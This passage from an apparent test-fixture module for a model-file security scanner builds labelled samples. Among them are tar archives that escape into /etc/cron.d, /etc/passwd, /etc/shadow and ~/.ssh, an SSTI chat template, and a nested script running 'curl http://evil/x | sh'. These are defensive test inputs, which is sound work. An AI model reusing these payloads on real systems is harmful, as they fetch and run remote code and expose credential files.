    put("rc/tokenizer_config.json", json.dumps({"chat_template": SSTI_TEMPLATES["llama_cpp_cve"]}), "malicious")
    put("rc/bad.json", '{"a": 1, "a": 2}', "unscannable")

    # archives
    put(
        "safe/bundle.tar",
        tar_bytes(
            [
                ("model/config.json", "file", json.dumps({"model_type": "bert"})),
                ("model/weights.safetensors", "file", good),
                ("model/sub", "dir", ""),
            ]
        ),
        "safe",
    )
    put("safe/bundle.tar.gz", gzip.compress((d / "safe/bundle.tar").read_bytes()), "safe")
    put("safe/config.json.bz2", bz2.compress(json.dumps({"model_type": "gpt2"}).encode()), "safe")
    put("safe/config.json.xz", lzma.compress(json.dumps({"model_type": "gpt2"}).encode()), "safe")
    put("arc/traversal.tar", tar_bytes([("../../etc/cron.d/evil", "file", "* * * * * root id\n")]), "malicious")
    put("arc/absolute.tar", tar_bytes([("/etc/passwd", "file", "x")]), "malicious")
    put("arc/symlink_out.tar", tar_bytes([("model/link", "symlink", "../../../../home/user/.ssh")]), "malicious")
    put("arc/hardlink_out.tar", tar_bytes([("model/hl", "hardlink", "/etc/shadow")]), "malicious")
    put("arc/through_symlink.tar", tar_bytes([("d", "symlink", "sub"), ("d/x.json", "file", "{}")]), "malicious")
    put("arc/fifo.tar", tar_bytes([("model/pipe", "fifo", "")]), "suspicious")
    put(
        "arc/nested_evil.tar.gz",
        # a capability alone (os.system('id')) is suspicious; piping a download into a shell is intent
        gzip.compress(tar_bytes([("repo/evil.py", "file", "import os\nos.system('curl http://evil/x | sh')\n")])),
        "malicious",
    )
    put("arc/truncated.gz", gzip.compress(b'{"model_type": "gpt2", "pad": "' + b"a" * 5000 + b'"}')[:40], "unscannable")
    put("arc/trailing.json.gz", gzip.compress(b"{}") + b"MZ appended executable", "suspicious")
    put("arc/archive.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(32), "unscannable")
    put("arc/archive.rar", b"Rar!\x1a\x07\x01\x00" + bytes(32), "unscannable")
    put("arc/bad_checksum.tar", b"x" * 100 + bytes(412) + bytes(1024), "unscannable")
    return out


def expected_at_least(label: str) -> Verdict:
    return Verdict[label.upper()]


def run(scanner: Any, data: bytes, name: str = "file", **limits: Any) -> ScanContext:
    """Call one scanner directly on bytes (router-less), nested members via :func:`mini_router`."""
    from scanning.scanners.base import BytesReader, Limits

    ctx = ScanContext(limits=Limits(**limits), path=name, scan_nested=mini_router)
    scanner(BytesReader(data), ctx)
    return ctx


def rules(ctx: ScanContext) -> set[str]:
    return {f.rule for f in ctx.findings}
